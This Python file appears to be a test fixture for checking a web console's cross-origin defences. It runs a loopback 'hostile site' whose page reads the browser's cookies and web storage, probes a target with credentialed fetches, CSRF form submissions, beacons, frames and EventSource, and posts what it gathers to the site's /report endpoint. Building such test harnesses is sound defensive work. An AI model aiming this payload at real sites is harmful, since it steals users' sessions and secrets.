"""A hostile site: it serves pages that attack another server from the operator's browser, and keeps what browsers send to it."""

from __future__ import annotations

import json
import queue
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

# Tries a list of routes in every way that a page has, then says what it could read. `SEND` is how it says that.
ATTACK = """
const seen = { read: [], cookie: document.cookie, stored: [] };
try { seen.stored = Object.entries(sessionStorage).concat(Object.entries(localStorage)); } catch (error) {}
const wait = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));
const attempt = async (what, work) => {
  try {
    const text = await Promise.race([work(), wait(4000)]);
    if (text) seen.read.push([what, text]);
  } catch (error) {}
};
const inFrame = (made) => {
  const frame = document.createElement("iframe");
  frame.name = "frame" + Math.random();
  document.body.append(frame);
  made(frame);
};
const attack = async (target, routes) => {
  for (const [method, path] of routes) {
    const url = target + path;
    for (const mode of ["cors", "no-cors"]) {
      for (const headers of [{}, { "X-Abanico-Console": "login" }, { "Content-Type": "text/plain" }]) {
        const options = { method, mode, credentials: "include", headers };
        if (method === "POST") options.body = JSON.stringify({ secretAccessKey: "a guess" });
        await attempt(`fetch ${mode} ${method} ${path}`, async () => {
          const answer = await fetch(url, options);
          return answer.ok ? answer.text() : null;
        });
      }
    }
    for (const how of ["application/x-www-form-urlencoded", "text/plain", "multipart/form-data"]) {
      inFrame((frame) => {
        const form = document.createElement("form");
        Object.assign(form, { method: method === "GET" ? "GET" : "POST", action: url, enctype: how, target: frame.name });
        const field = document.createElement("input");
        Object.assign(field, { name: '{"secretAccessKey":"a guess', value: '"}' });
        form.append(field);
        document.body.append(form);
        form.submit();
      });
    }
    navigator.sendBeacon(url, "{}");
    const image = new Image();
    image.src = url;
    document.body.append(image);
    const script = document.createElement("script");
    script.src = url;
    document.body.append(script);
    await attempt("frame " + path, () => new Promise((resolve) => inFrame((frame) => {
      frame.onload = () => { try { resolve(frame.contentDocument.body.innerText); } catch (error) { resolve(null); } };
      frame.src = url;
    })));
    await attempt("events " + path, () => new Promise((resolve) => {
      const source = new EventSource(url, { withCredentials: true });
      source.onopen = () => resolve("opened");
      source.onerror = () => { source.close(); resolve(null); };
    }));
  }
  await wait(1000);
};
"""


class HostileSite:
    """A site on a port of its own."""

    def __init__(self) -> None:
        """Starts the site on a free port of loopback."""
        self.pages: dict[str, str] = {}
        self.requests: list[tuple[str, dict[str, str]]] = []
        self.reports: queue.Queue[dict] = queue.Queue()
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802
                site.requests.append((self.path, dict(self.headers)))
                body = site.pages.get(self.path, "").encode()
                self._answer(body)

            def do_POST(self) -> None:  # noqa: N802
                body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
                if self.path == "/report":
                    site.reports.put(json.loads(body))
                self._answer(b"")

            def _answer(self, body: bytes) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_: object) -> None:
                """Says nothing."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self._server.serve_forever, daemon=True).start()
        self.url = f"http://127.0.0.1:{self._server.server_port}"

    def attack(self, target: str, routes: list[tuple[str, str]]) -> str:
        """A page that tries `routes` of `target` (empty for the page's own origin) and reports to this site."""
        run = f"attack({json.dumps(target)}, {json.dumps(routes)})"
        report = f"fetch({json.dumps(self.url + '/report')}, {{ method: 'POST', mode: 'no-cors', body: JSON.stringify(seen) }})"
        return f"<!doctype html><body><script>{ATTACK}\n{run}.finally(() => {report});</script>"

    def close(self) -> None:
        """Stops the site."""
        self._server.shutdown()
        self._server.server_close()
